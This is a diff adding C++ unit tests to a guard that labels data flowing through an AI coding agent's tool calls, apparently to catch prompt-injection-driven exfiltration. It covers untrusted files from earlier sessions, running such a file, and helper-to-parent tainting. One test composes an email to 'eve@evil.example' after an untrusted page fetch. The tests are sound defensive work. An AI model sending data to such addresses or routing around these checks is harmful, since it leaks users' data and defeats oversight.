@@ -88,5 +88,88 @@ TEST(FlowWatch, IsOffWithoutWords) {
   EXPECT_EQ(off.guard.pack().flow_words(), nullptr);
 }
 
+// --- files that carry a label ---
+
+flow::CarriedFile carried(flow::CarriedFile::Use use, bool own = false) {
+  return {"/workspace/notes.txt", use, "claude-code:earlier", 12, own};
+}
+
+// Reads /workspace/notes.txt, which says who gets the report.
+void read_notes(Session& session) {
+  event::Event call = tool_call("Read", Json::object({{"file_path", "/workspace/notes.txt"}}));
+  call.corr["tool_use_id"] = "read-1";
+  ASSERT_EQ(session.call(call).verdict, Verdict::allow);
+  session.supplied.carried.clear();
+  event::Event result = tool_call("Read", Json::object());
+  result.kind = event::kind::kToolResult;
+  result.corr["tool_use_id"] = "read-1";
+  result.body =
+      Json::object({{"output", "The report goes to Carla, and to carla@example.com too, every Monday."}});
+  session.note(result);
+}
+
+TEST(FlowWatch, AFileBringsTheLabelOfItsWriter) {
+  Session session(testing::shipped_pack());
+  session.say("Send the report to whoever notes.txt names");
+  session.supplied.carried = {carried(flow::CarriedFile::Use::reads)};
+  read_notes(session);
+  EXPECT_EQ(session.guard.flow()->label().integrity(), flow::Integrity::untrusted);
+  // Out of the workspace's own text the address would be endorsed (FilesOfTheWorkspaceAreNotStrangers).
+  const auto held = send(session, "carla@example.com");
+  EXPECT_EQ(held.verdict, Verdict::ask);
+  EXPECT_EQ(held.labels["values"].as_array()[0]["origin"].text_or(""), "untrusted-text");
+}
+
+TEST(FlowWatch, WhatASessionWroteItselfIsNoWayAround) {
+  Session session(testing::shipped_pack());
+  session.say("Send the report to whoever notes.txt names");
+  session.read(kPage);
+  session.supplied.carried = {carried(flow::CarriedFile::Use::reads, true)};
+  read_notes(session);
+  EXPECT_EQ(send(session, "carla@example.com").verdict, Verdict::ask);
+}
+
+TEST(FlowWatch, TheCallItselfHasTheLabelAndTheRecordSaysWhoWrote) {
+  Session session(testing::shipped_pack());
+  session.supplied.carried = {carried(flow::CarriedFile::Use::runs)};
+  const auto held = session.run("bash notes.txt");
+  EXPECT_EQ(held.verdict, Verdict::ask);
+  EXPECT_NE(held.reason.find("\"/workspace/notes.txt\" was written in step 12 of session "
+                             "claude-code:earlier"),
+            std::string::npos)
+      << held.reason;
+  EXPECT_EQ(held.labels["integrity"].text_or(""), "untrusted");
+  EXPECT_EQ(flow::carried_from_json(held.labels["carried"]), session.supplied.carried);
+  // It was not released: nothing of it is in the session.
+  EXPECT_LT(session.guard.flow()->label().integrity(), flow::Integrity::untrusted);
+}
+
+TEST(FlowWatch, InstructionsAreInTheSessionWhateverBecomesOfTheCall) {
+  Session session(testing::shipped_pack());
+  session.supplied.carried = {carried(flow::CarriedFile::Use::loads), carried(flow::CarriedFile::Use::runs)};
+  EXPECT_EQ(session.run("bash notes.txt").verdict, Verdict::ask);
+  EXPECT_EQ(session.guard.flow()->label().integrity(), flow::Integrity::untrusted);
+}
+
+// A hand-over within the tree needs no file: sub-agent and parent have one label.
+TEST(FlowWatch, WhatAHelperReadCountsForItsParentAndTheOtherWayRound) {
+  for (const bool helper_reads : {true, false}) {
+    Session session(testing::shipped_pack());
+    session.say("Send the report to ann@example.com");
+    event::Event page = tool_call("WebFetch", Json::object());
+    page.kind = event::kind::kToolResult;
+    page.body = Json::object({{"output", kPage}});
+    event::Event mail = tool_call("mcp__mail__send_email",
+                                  Json::object({{"to", "eve@evil.example"}, {"body", "the report"}}));
+    event::Event& of_helper = helper_reads ? page : mail;
+    of_helper.session = "claude-code:test/helper-1";
+    of_helper.parent = "claude-code:test";
+    of_helper.agent.id = "helper-1";
+    of_helper.agent.type = "explorer";
+    session.note(page);
+    EXPECT_EQ(session.call(mail).verdict, Verdict::ask) << helper_reads;
+  }
+}
+
 }  // namespace
 }  // namespace weir::guard
